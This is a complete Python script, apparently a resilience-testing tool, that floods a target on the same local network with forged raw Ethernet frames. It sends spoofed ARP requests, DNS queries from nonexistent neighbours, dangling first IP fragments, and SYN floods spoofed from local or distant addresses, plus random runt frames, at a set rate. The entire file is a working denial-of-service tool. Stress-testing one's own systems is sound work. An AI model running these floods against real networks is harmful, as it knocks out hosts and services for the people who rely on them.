"""What a machine on the guest's own network may throw at it: frames from neighbours that there are not.

    frames.py flood KIND DEVICE ADDRESS RATE SECONDS

ADDRESS is the target's, an IPv4 address of a /24. Needs root."""
import json
import random
import socket
import struct
import subprocess
import sys
import time

QUERY = bytes.fromhex("123401000001000000000000026d65087369676e706f73740000060001")  # me.signpost SOA


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def mac():
    return b"\2" + random.randbytes(5)


def packet(source, target, protocol, payload, fragment=0):
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), random.randrange(65536), fragment, 64, protocol, 0, source, target)
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + payload


def udp(payload):
    return struct.pack(">4H", random.randrange(1024, 65536), 53, 8 + len(payload), 0) + payload


def neighbour(target):
    """Somebody else's address of the same network."""
    return target[:3] + bytes([random.choice([n for n in range(100, 250) if n != target[3]])])


def arp(target, own):
    sender, source = mac(), neighbour(target)
    return own, sender, 0x0806, struct.pack(">HHBBH", 1, 0x0800, 6, 4, 1) + sender + source + bytes(6) + target


def query(target, own):
    """Answered to a neighbour that must be looked for, and is not there."""
    return own, mac(), 0x0800, packet(neighbour(target), target, 17, udp(QUERY))


def fragments(target, own):
    """First ones, whose others never come."""
    return own, mac(), 0x0800, packet(neighbour(target), target, 17, udp(random.randbytes(1392)), 0x2000)


def connecting(source, target):
    segment = struct.pack(">HHIIBBHHH", random.randrange(1024, 65536), 53, random.randrange(1 << 32), 0, 0x50, 2, 65535, 0, 0)
    pseudo = source + target + struct.pack(">BBH", 0, 6, len(segment))
    return packet(source, target, 6, segment[:16] + struct.pack(">H", checksum(pseudo + segment)) + segment[18:])


def syn(target, own):
    """Whose answers need a neighbour that is not there."""
    return own, mac(), 0x0800, connecting(neighbour(target), target)


def syn_from_afar(target, own):
    """Whose answers go out, to the router, and nobody acknowledges them."""
    return own, mac(), 0x0800, connecting(bytes([random.choice((5, 23, 77, 91, 130))]) + random.randbytes(2) + bytes([random.randrange(1, 255)]), target)


def runts(target, own):
    return own, mac(), random.choice((0x0800, 0x0806, 0x86dd)), random.randbytes(random.randrange(46, 1500))


KINDS = {f.__name__: f for f in (arp, query, fragments, syn, syn_from_afar, runts)}


def flood(kind, device, address, rate, seconds):
    target = socket.inet_aton(address)
    subprocess.run(["ping", "-c", "1", "-W", "10", address], stdout=subprocess.DEVNULL, check=True)
    line = json.loads(subprocess.run(["ip", "-j", "neigh", "show", address, "dev", device], capture_output=True, check=True).stdout)[0]
    own = bytes.fromhex(line["lladdr"].replace(":", ""))
    frames = [b"".join((to, of, struct.pack(">H", kind), body)) for to, of, kind, body in (KINDS[kind](target, own) for _ in range(1024))]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((device, 0))
    begun, sent = time.monotonic(), 0
    while (now := time.monotonic()) < begun + seconds:
        while sent < (now - begun) * rate:
            try:
                s.send(frames[sent % len(frames)])
            except OSError:  # the device's queue is full
                pass
            sent += 1
        time.sleep(0.002)
    print(json.dumps({"sent": sent}))


if __name__ == "__main__":
    flood(*sys.argv[2:5], *map(float, sys.argv[5:]))
